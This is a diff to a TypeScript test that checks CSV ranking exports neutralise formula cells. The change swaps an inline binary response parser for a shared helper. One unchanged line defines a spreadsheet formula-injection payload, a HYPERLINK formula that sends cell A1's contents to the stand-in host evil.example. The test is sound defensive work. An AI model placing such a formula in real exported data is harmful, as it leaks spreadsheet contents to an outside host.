@@ -3,6 +3,7 @@ import { openCycle, readyApplication, registerEnterprise } from '../support/awar
 import { assignmentsOf, intoExpertReview, reviewerPool, scoreSheet, waitForState } from '../support/review-fixtures';
 import { waitFor } from '../support/throwaway-redis';
 import { startTestApp, TestContext } from '../support/test-app';
+import { binaryBody } from '../support/binary-body';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
 
@@ -35,11 +36,7 @@ describe('CSV exports neutralise formula cells', () => {
       .get(`/cycles/${cycle.id}/ranking.csv`)
       .set('Authorization', admin)
       .buffer(true)
-      .parse((response, done) => {
-        const chunks: Buffer[] = [];
-        response.on('data', (chunk: Buffer) => chunks.push(chunk));
-        response.on('end', () => done(null, Buffer.concat(chunks)));
-      })
+      .parse(binaryBody)
       .expect(200);
     const lines = (res.body as Buffer).subarray(3).toString('utf8').trim().split('\r\n');
     expect(lines).toHaveLength(2);
